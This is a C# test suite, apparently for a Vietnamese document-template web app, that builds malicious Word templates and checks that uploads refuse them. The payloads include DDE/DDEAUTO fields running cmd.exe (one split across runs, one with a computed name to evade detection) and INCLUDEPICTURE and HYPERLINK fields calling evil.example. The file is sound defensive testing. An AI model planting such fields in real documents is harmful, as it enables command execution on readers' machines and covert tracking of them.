using System.Net;
using DocumentFormat.OpenXml;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Wordprocessing;
using Microsoft.EntityFrameworkCore;
using PhatTrienDangVien.Web.Documents;
using PhatTrienDangVien.Web.Tests.Infrastructure;
using Shouldly;
using Xunit;

namespace PhatTrienDangVien.Web.Tests.Documents;

/// <summary>
/// Templates a breaker built from the real default: thousands of placeholders, link and DDE fields, a placeholder in a
/// field's code, comments, a form without its name or number. Each is refused on upload with its reason, nothing stored.
/// </summary>
public abstract class HostileTemplateTests<TApp>(TApp app) where TApp : AppFactory
{
    private const string Form = "5-KND";

    /// <summary>The form's default template changed through the Open XML SDK, as Word would save it.</summary>
    internal static byte[] WithSdk(Action<WordprocessingDocument> change, string form = Form)
    {
        using var stream = new MemoryStream();
        stream.Write(FormCatalog.Find(form)!.DefaultTemplate());
        stream.Position = 0;
        using (var doc = WordprocessingDocument.Open(stream, true))
        {
            change(doc);
            doc.MainDocumentPart!.Document!.Save();
        }
        return stream.ToArray();
    }

    private static void AddToBody(WordprocessingDocument d, OpenXmlElement paragraph) => d.MainDocumentPart!.Document!.Body!.InsertAt(paragraph, 0);

    /// <summary>A complex field as Word writes it: begin, the instruction (cut into runs as Word may cut it), separate, a result, end.</summary>
    internal static Paragraph Field(params string[] instruction) => new(
        new[] { new Run(new FieldChar { FieldCharType = FieldCharValues.Begin }) }
            .Concat(instruction.Select(i => new Run(new FieldCode(i) { Space = SpaceProcessingModeValues.Preserve })))
            .Concat([new Run(new FieldChar { FieldCharType = FieldCharValues.Separate }), new Run(new Text("kết quả")), new Run(new FieldChar { FieldCharType = FieldCharValues.End })]));

    private static Paragraph Simple(string instruction) => new(new SimpleField(new Run(new Text("kết quả"))) { Instruction = instruction });

    private static void AddFooter(WordprocessingDocument d, Paragraph p)
    {
        var footer = d.MainDocumentPart!.AddNewPart<FooterPart>();
        footer.Footer = new Footer(p);
        footer.Footer.Save();
    }

    private static byte[] Build(string kind) => kind switch
    {
        // Word may cut one instruction across runs: "DD" + "EAUTO" is one field name.
        "dde-split" => WithSdk(d => AddToBody(d, Field(" DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" "))),
        "dde-simple" => WithSdk(d => AddToBody(d, Simple(" DDE c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" "))),
        "includepicture-footer" => WithSdk(d => AddFooter(d, Field(" INCLUDEPICTURE \"http://evil.example/track.png\" \\d "))),
        "includetext" => WithSdk(d => AddToBody(d, Field(" INCLUDETEXT \"\\\\\\\\host\\\\share\\\\a.docx\" "))),
        "link" => WithSdk(d => AddToBody(d, Field(" LINK Excel.Sheet.12 \"C:\\\\a.xlsx\" \"Sheet1!R1C1\" \\a "))),
        "hyperlink-placeholder" => WithSdk(d => AddToBody(d, Simple(" HYPERLINK \"http://evil.example/{{ho_ten}}\" "))),
        "import" => WithSdk(d => AddToBody(d, Field(" import \"http://evil.example/a.wmf\" "))),
        "placeholder-in-field" => WithSdk(d => AddToBody(d, Field(" QUOTE \"{{ho_ten}}\" "))),
        // { {QUOTE "DDE"}AUTO … }: the field's name is the result of the field nested at its start.
        "computed-name" => WithSdk(d => AddToBody(d, new Paragraph(
            new Run(new FieldChar { FieldCharType = FieldCharValues.Begin }),
            new Run(new FieldChar { FieldCharType = FieldCharValues.Begin }),
            new Run(new FieldCode(" QUOTE \"DDE\" ") { Space = SpaceProcessingModeValues.Preserve }),
            new Run(new FieldChar { FieldCharType = FieldCharValues.Separate }),
            new Run(new Text("DDE")),
            new Run(new FieldChar { FieldCharType = FieldCharValues.End }),
            new Run(new FieldCode("AUTO c:\\\\windows\\\\system32\\\\cmd.exe ") { Space = SpaceProcessingModeValues.Preserve }),
            new Run(new FieldChar { FieldCharType = FieldCharValues.Separate }),
            new Run(new FieldChar { FieldCharType = FieldCharValues.End })))),
        "comment" => WithSdk(d =>
        {
            var part = d.MainDocumentPart!.AddNewPart<WordprocessingCommentsPart>();
            part.Comments = new Comments(new Comment(new Paragraph(new Run(new Text("{{khong_biet_comment}}")))) { Id = "0", Author = "Thử" });
            part.Comments.Save();
        }),
        "many-placeholders" => WithSdk(d => AddToBody(d, new Paragraph(new Run(new Text(string.Concat(Enumerable.Repeat("{{ho_ten}} ", 5000))))))),
        _ => throw new ArgumentOutOfRangeException(nameof(kind)),
    };

    private static async Task<HttpResponseMessage> UploadAsync(Browser b, string form, byte[] content)
    {
        var (_, page) = await b.GetAsync("/Documents");
        var token = page.QuerySelector("input[name=__RequestVerificationToken]")!.GetAttribute("value")!;
        using var multipart = new MultipartFormDataContent
        {
            { new StringContent(token), "__RequestVerificationToken" },
            { new ByteArrayContent(content), "file", "mau.docx" },
        };
        return await b.Client.PostAsync($"/Documents?handler=Upload&form={form}", multipart);
    }

    private Task<int> TemplatesAsync() => app.WithSystemScopeAsync(db => db.FormTemplates.CountAsync());

    [Theory]
    [InlineData("dde-split", "Mẫu có trường (field) không được phép: DDEAUTO (word/document.xml)")]
    [InlineData("dde-simple", "Mẫu có trường (field) không được phép: DDE (word/document.xml)")]
    [InlineData("includepicture-footer", "Mẫu có trường (field) không được phép: INCLUDEPICTURE (word/")]
    [InlineData("includetext", "Mẫu có trường (field) không được phép: INCLUDETEXT (word/document.xml)")]
    [InlineData("link", "Mẫu có trường (field) không được phép: LINK (word/document.xml)")]
    [InlineData("hyperlink-placeholder", "Mẫu có trường (field) không được phép: HYPERLINK (word/document.xml)")]
    [InlineData("import", "Mẫu có trường (field) không được phép: IMPORT (word/document.xml)")]
    [InlineData("placeholder-in-field", "Mẫu có trường (field) không được phép: chỗ điền trong mã trường QUOTE (word/document.xml)")]
    [InlineData("computed-name", "Mẫu có trường (field) không được phép: trường có tên ghép từ trường khác (word/document.xml)")]
    [InlineData("comment", "Mẫu còn chú thích (comment); hãy xóa chú thích")]
    [InlineData("many-placeholders", "Mẫu có quá nhiều chỗ điền (")]
    public async Task A_hostile_template_is_refused_on_upload_with_its_reason_and_nothing_is_stored(string kind, string message)
    {
        var hostile = Build(kind);
        var office = await Browser.LoginAsync(app, "office");
        var before = await TemplatesAsync();
        var refused = await UploadAsync(office, Form, hostile);
        refused.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        WebUtility.HtmlDecode(await refused.Content.ReadAsStringAsync()).ShouldContain(message);
        (await TemplatesAsync()).ShouldBe(before);
        // What the package holds is refused on issue too, for a template stored before this check.
        if (kind != "many-placeholders")
            Should.Throw<DocxTemplate.UnsafeTemplateException>(() => DocxTemplate.Fill(hostile, new Dictionary<string, string>()));
    }

    [Fact]
    public async Task A_template_without_the_placeholders_its_form_must_carry_is_refused_naming_them()
    {
        var office = await Browser.LoginAsync(app, "office");
        var (_, page) = await office.GetAsync("/Documents");
        page.QuerySelector("[data-form='6-KND'] details")!.TextContent.ShouldContain("{{so}} (bắt buộc)");
        page.QuerySelector("[data-form='5-KND'] details")!.TextContent.ShouldNotContain("{{so}} (bắt buộc)");
        var before = await TemplatesAsync();
        var blank = WithSdk(d => d.MainDocumentPart!.Document!.Body = new Body(new Paragraph(new Run(new Text("NGHỊ QUYẾT đề nghị kết nạp đảng viên — Số ")))), "6-KND");
        DocxTemplate.Placeholders(blank).ShouldBeEmpty();
        var refused = await UploadAsync(office, "6-KND", blank);
        refused.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        var message = WebUtility.HtmlDecode(await refused.Content.ReadAsStringAsync());
        message.ShouldContain("Mẫu 6-KNĐ thiếu chỗ điền bắt buộc: {{ho_ten}} (");
        message.ShouldContain("{{so}} (Số văn bản");
        // A person's own paper is not numbered: only the name is asked of it.
        var noName = await UploadAsync(office, "1-KND", WithSdk(d => d.MainDocumentPart!.Document!.Body = new Body(new Paragraph(new Run(new Text("{{ngay_sinh}}")))), "1-KND"));
        noName.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        var said = WebUtility.HtmlDecode(await noName.Content.ReadAsStringAsync());
        said.ShouldContain("Mẫu 1-KNĐ thiếu chỗ điền bắt buộc: {{ho_ten}} (");
        said.ShouldNotContain("{{so}} (Số văn bản");
        (await TemplatesAsync()).ShouldBe(before);
    }

    [Fact]
    public async Task A_template_with_page_and_date_fields_and_900_placeholders_is_accepted_and_issued_filled()
    {
        var cases = await FormCases.EnsureAsync(app);
        var repeat = 900 - DocxTemplate.Read(FormCatalog.Find(Form)!.DefaultTemplate()).Uses;
        var ordinary = WithSdk(d =>
        {
            AddFooter(d, new Paragraph(new[] { new Run(new Text("Trang ") { Space = SpaceProcessingModeValues.Preserve }) }
                .Concat(Field(" PAGE ").Elements<Run>().Select(r => (Run)r.CloneNode(true)))
                .Concat([new Run(new Text("/"))])
                .Concat(Field(" NUMPAGES \\* MERGEFORMAT ").Elements<Run>().Select(r => (Run)r.CloneNode(true)))));
            AddToBody(d, Simple(" DATE \\@ \"dd/MM/yyyy\" "));
            AddToBody(d, new Paragraph(new Run(new Text(string.Concat(Enumerable.Repeat("{{ho_ten}};", repeat))))));
        });
        DocxPackage.Problem(ordinary).ShouldBeNull();
        DocxTemplate.Read(ordinary).Uses.ShouldBe(900);

        var office = await Browser.LoginAsync(app, "office");
        var ok = await UploadAsync(office, Form, ordinary);
        ok.StatusCode.ShouldBe(HttpStatusCode.Redirect, await ok.Content.ReadAsStringAsync());
        try
        {
            var secretary = await Browser.LoginAsync(app, "secretary");
            var issued = await FormCases.IssueAsync(secretary, cases.A, await FormCases.StepAsync(app, cases.A, Core.Admission.AdmissionStepKind.Opinions), Form);
            var text = DocxTemplate.PlainText(issued);
            text.ShouldNotContain("{{");
            var repeated = FormCases.Paragraphs(issued)[0];
            repeated.Split(';', StringSplitOptions.RemoveEmptyEntries).ShouldAllBe(n => n == "Võ Minh Đức");
            repeated.Split(';', StringSplitOptions.RemoveEmptyEntries).Length.ShouldBe(repeat);
        }
        finally
        {
            var reset = await office.PostRawAsync($"/Documents?handler=Reset&form={Form}", [], "/Documents");
            reset.StatusCode.ShouldBe(HttpStatusCode.Redirect);
        }
    }
}

public sealed class HostileTemplateTests_Sqlite(SqliteApp app) : HostileTemplateTests<SqliteApp>(app), IClassFixture<SqliteApp>;

public sealed class HostileTemplateTests_Postgres(PostgresApp app) : HostileTemplateTests<PostgresApp>(app), IClassFixture<PostgresApp>;

/// <summary>The filler on its own: one pass over runs, values XML cannot hold dropped, every default fit to be a template.</summary>
public sealed class TemplateFillTests
{
    private static byte[] Docx(params string[] runs)
    {
        using var stream = new MemoryStream();
        using (var doc = WordprocessingDocument.Create(stream, WordprocessingDocumentType.Document))
        {
            var main = doc.AddMainDocumentPart();
            main.Document = new Document(new Body(new Paragraph(runs.Select((t, i) =>
                new Run(new RunProperties(i % 2 == 1 ? new Bold() : new Italic()), new Text(t) { Space = SpaceProcessingModeValues.Preserve })))));
            main.Document.Save();
        }
        return stream.ToArray();
    }

    private static List<string> Runs(byte[] docx)
    {
        using var doc = WordprocessingDocument.Open(new MemoryStream(docx), false);
        return [.. doc.MainDocumentPart!.Document!.Body!.Descendants<Run>().Select(r => r.InnerText)];
    }

    [Fact]
    public void Placeholders_cut_across_runs_and_side_by_side_are_each_replaced_in_the_run_where_they_begin()
    {
        var filled = DocxTemplate.Fill(Docx("A {{ho_", "ten}} B {{ngay", "_sinh}}{{chi_bo}}{{khong_co}}", " C {{ho_ten}}"),
            new Dictionary<string, string> { ["ho_ten"] = "Võ Minh Đức", ["ngay_sinh"] = "15/03/2000", ["chi_bo"] = "Chi bộ Ấp Mỹ Lợi" });
        Runs(filled).ShouldBe(["A Võ Minh Đức", " B 15/03/2000", "Chi bộ Ấp Mỹ Lợi{{khong_co}}", " C Võ Minh Đức"]);
    }

    [Fact]
    public void Nine_hundred_placeholders_in_one_run_are_all_filled()
    {
        var template = Docx(string.Concat(Enumerable.Range(0, 900).Select(i => i % 2 == 0 ? "[{{ho_ten}}]" : "({{so}})")));
        DocxTemplate.Read(template).Uses.ShouldBe(900);
        var run = Runs(DocxTemplate.Fill(template, new Dictionary<string, string> { ["ho_ten"] = "Võ Minh Đức", ["so"] = "12-NQ/CB" })).ShouldHaveSingleItem();
        run.ShouldBe(string.Concat(Enumerable.Range(0, 900).Select(i => i % 2 == 0 ? "[Võ Minh Đức]" : "(12-NQ/CB)")));
    }

    [Fact]
    public void A_value_with_characters_xml_cannot_hold_is_written_without_them()
    {
        var filled = DocxTemplate.Fill(Docx("Họ tên: {{ho_ten}}."),
            new Dictionary<string, string> { ["ho_ten"] = "Võ\uFFFE Minh\u0001 Đức\uD800\uFFFF 😀\u0008" });
        Runs(filled).ShouldBe(["Họ tên: Võ Minh Đức 😀."]);
    }

    [Fact]
    public void Every_default_template_carries_the_placeholders_its_form_requires_and_passes_the_checks()
    {
        foreach (var form in FormCatalog.All)
        {
            var template = form.DefaultTemplate();
            DocxPackage.Problem(template).ShouldBeNull(form.Key);
            var reading = DocxTemplate.Read(template);
            reading.Uses.ShouldBeLessThanOrEqualTo(DocxTemplate.MaxPlaceholderUses, form.Key);
            Placeholders.Required(form).ShouldBeSubsetOf(reading.Names, form.Key);
            if (form.NumberType is not null) Placeholders.Required(form).ShouldContain("so");
        }
    }
}
